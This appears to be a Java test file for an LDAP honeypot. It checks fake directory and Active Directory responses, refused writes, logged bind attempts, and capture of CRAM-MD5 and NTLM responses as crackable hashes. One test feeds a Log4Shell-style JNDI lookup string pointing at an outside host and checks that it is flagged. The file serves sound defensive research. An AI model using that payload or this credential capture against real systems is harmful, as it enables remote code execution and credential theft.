package io.honeybee.pot.ldap;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.pot.PotFixture;
import io.honeybee.pot.RawClient;
import io.honeybee.pot.RealClient;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The real ldapsearch and its kin, and nmap. Needs the Debian packages ldap-utils and nmap. */
class LdapClientTest {
  private static final BerWriter BER = new BerWriter(false);
  private static final String PERSON = PotFixture.WORLD.people().getFirst().name();

  @TempDir Path directory;

  private PotFixture start(Map<String, String> options) throws Exception {
    return PotFixture.start(new LdapPotType(), directory, options);
  }

  private static RealClient run(PotFixture pot, String input, String program, String... options)
      throws Exception {
    List<String> command =
        new ArrayList<>(
            List.of(
                "env",
                "LDAPTLS_REQCERT=never",
                program,
                "-x",
                "-H",
                "ldap://127.0.0.1:" + pot.port()));
    command.addAll(List.of(options));
    return RealClient.run(input, command.toArray(String[]::new));
  }

  @Test
  void realClientReadsTheRootAndThePeople() throws Exception {
    try (PotFixture pot = start(Map.of("domain", "example.org"))) {
      assertThat(run(pot, "", "ldapsearch", "-LLL", "-b", "", "-s", "base", "+").output())
          .contains("namingContexts: dc=example,dc=org")
          .contains("supportedLDAPVersion: 3")
          .contains("supportedExtension: 1.3.6.1.4.1.1466.20037")
          .doesNotContain("objectClass: top");
      assertThat(
              run(pot, "", "ldapsearch", "-LLL", "-b", "dc=example,dc=org", "(&(uid=*)(!(uid=x)))")
                  .output())
          .contains("dn: uid=" + PERSON + ",ou=people,dc=example,dc=org")
          .contains("homeDirectory: /home/" + PERSON)
          .doesNotContain("userPassword")
          .doesNotContain("entryUUID");
      assertThat(run(pot, "", "ldapsearch", "-b", "dc=foo").output())
          .contains("result: 32 No such object");
      assertThat(run(pot, "", "ldapsearch", "-z", "1", "-b", "dc=example,dc=org").output())
          .contains("result: 4 Size limit exceeded")
          .contains("numEntries: 1");
      assertThat(pot.await("ldap.search.request", 4).get(1).data())
          .containsEntry("dn", "dc=example,dc=org")
          .containsEntry("scope", "sub")
          .containsEntry("filter", "(&(uid=*)(!(uid=x)))");
      pot.await("ldap.session.closed", 4);
    }
  }

  @Test
  void bindsAreLoginsAndWritingIsRefused() throws Exception {
    try (PotFixture pot = start(Map.of("login", "list:admin/right"))) {
      String admin = "cn=admin,dc=nodomain";
      assertThat(run(pot, "", "ldapwhoami").output()).contains("anonymous");
      assertThat(run(pot, "", "ldapwhoami", "-D", admin, "-w", "guess").output())
          .contains("ldap_bind: Invalid credentials (49)");
      assertThat(run(pot, "", "ldapwhoami", "-D", "zzz", "-w", "x").output())
          .contains("ldap_bind: Invalid DN syntax (34)")
          .contains("invalid DN");
      assertThat(run(pot, "", "ldapwhoami", "-D", admin, "-w", "right").output())
          .contains("dn:" + admin);
      String entry = "dn: cn=x,dc=nodomain\nobjectClass: person\ncn: x\nsn: x\n";
      assertThat(run(pot, entry, "ldapadd").output())
          .contains("Strong(er) authentication required (8)")
          .contains("modifications require authentication");
      assertThat(run(pot, entry, "ldapadd", "-D", admin, "-w", "right").output())
          .contains("Insufficient access (50)");
      assertThat(run(pot, "", "ldapdelete", "-D", admin, "-w", "right", "dc=nodomain").output())
          .contains("Insufficient access (50)");

      assertThat(pot.await("ldap.login.failed", 2).getFirst().data())
          .containsEntry("username", "admin")
          .containsEntry("password", "guess")
          .containsEntry("dn", admin)
          .containsEntry("method", "simple");
      pot.await("ldap.login.success", 3);
      assertThat(pot.await("ldap.operation.request", 5))
          .extracting(o -> o.data().get("operation") + " " + o.data().get("dn"))
          .contains("add cn=x,dc=nodomain", "delete dc=nodomain");
    }
  }

  @Test
  void startTlsIsSpoken() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      assertThat(run(pot, "", "ldapsearch", "-ZZ", "-LLL", "-b", "dc=nodomain", "dc=*").output())
          .contains("dn: dc=nodomain");
      assertThat(pot.await("ldap.client.tls", 1).getFirst().data()).containsKeys("ja3", "ja4");
    }
  }

  @Test
  void challengeOfCramIsKeptForCrackers() throws Exception {
    try (PotFixture pot = start(Map.of());
        RawClient client = new RawClient(pot.port())) {
      client.send(sasl(1, "CRAM-MD5", null)).awaitText("@" + PotFixture.WORLD.hostName() + ">");
      client
          .send(sasl(2, "CRAM-MD5", "tom 0123456789abcdef0123456789abcdef"))
          .awaitText("no secret in database");
      assertThat(pot.await("ldap.login.failed", 1).getFirst().data())
          .containsEntry("username", "tom")
          .containsEntry("method", "sasl CRAM-MD5")
          .hasEntrySatisfying(
              "hash", hash -> assertThat((String) hash).matches("\\$cram_md5\\$\\S+\\$\\S+"));
      client.send(sasl(3, "GSS-SPNEGO", "x")).awaitText("Couldn't find mech GSS-SPNEGO");
    }
  }

  private static String sasl(int id, String mechanism, @Nullable String token) {
    String credentials = BER.octets(mechanism) + (token == null ? "" : BER.octets(token));
    return BER.message(
        id, BER.element(0x60, BER.number(2, 3) + BER.octets("") + BER.element(0xA3, credentials)));
  }

  @Test
  void domainControllerShowsItselfAndTakesNtlm() throws Exception {
    try (PotFixture pot =
            start(Map.of("personality", "active-directory", "domain", "corp.example"));
        RawClient client = new RawClient(pot.port())) {
      assertThat(run(pot, "", "ldapsearch", "-LLL", "-b", "", "-s", "base").output())
          .contains("defaultNamingContext: DC=corp,DC=example")
          .contains("dnsHostName: " + PotFixture.WORLD.hostName() + ".corp.example");
      assertThat(run(pot, "", "ldapsearch", "-b", "DC=corp,DC=example").output())
          .contains("result: 1 Operations error")
          .contains("successful bind must be completed");
      assertThat(run(pot, "", "ldapwhoami", "-D", "tom@corp.example", "-w", "x").output())
          .contains("Invalid credentials (49)")
          .contains("data 52e");

      client.send(sasl(1, "GSS-SPNEGO", "NTLMSSP\0\u0001\0\0\0\u0007\u0082\u0008\u00a2"));
      client.awaitText("NTLMSSP\0\u0002\0\0\0");
      String fields =
          field(0, 64)
              + field(24 + 4, 64)
              + field(4, 92)
              + field(3, 96)
              + field(2, 99)
              + field(0, 101)
              + "\0\0\0\0";
      String third =
          "NTLMSSP\0\u0003\0\0\0"
              + fields
              + "p".repeat(16)
              + "b".repeat(12)
              + "CORP"
              + "tom"
              + "PC";
      client.send(sasl(2, "GSS-SPNEGO", third)).awaitText("data 52e");
      assertThat(pot.await("ldap.login.failed", 2).getLast().data())
          .containsEntry("username", "tom")
          .hasEntrySatisfying(
              "hash",
              hash ->
                  assertThat((String) hash).matches("tom::CORP:[0-9a-f]{16}:(70){16}:(62){12}"));
    }
  }

  private static String field(int length, int offset) {
    return "" + (char) length + "\0" + (char) length + "\0" + (char) offset + "\0\0\0";
  }

  @Test
  void lookupsOfLoggersAreTagged() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      run(pot, "", "ldapsearch", "-b", "dc=nodomain", "(uid=${jndi:ldap://192.0.2.1/a})");
      assertThat(pot.await("ldap.search.request", 1).getFirst().data())
          .containsEntry("filter", "(uid=${jndi:ldap://192.0.2.1/a})")
          .containsEntry("threat_technique_id", List.of("T1190"));
    }
  }

  @Test
  void scannerNamesIt() throws Exception {
    try (PotFixture pot = start(Map.of())) {
      // Of a real 2.5, nmap 7.93 says the same: its signatures end with the answer to version 2.
      try (RawClient client = new RawClient(pot.port())) {
        client.send("0\f\u0002\u0001\u0001`\u0007\u0002\u0001\u0002\u0004\0\u0080\0");
        client.awaitText(
            "0E\u0002\u0001\u0001a@\n\u0001\u0002\u0004\0\u00049historical protocol version"
                + " requested, use LDAPv3 instead");
      }
      RealClient nmap =
          RealClient.run(
              "",
              "nmap",
              "-Pn",
              "-n",
              "--script",
              "+ldap-rootdse",
              "-p",
              Integer.toString(pot.port()),
              "127.0.0.1");
      assertThat(nmap.output()).contains("namingContexts: dc=nodomain");
    }
  }
}
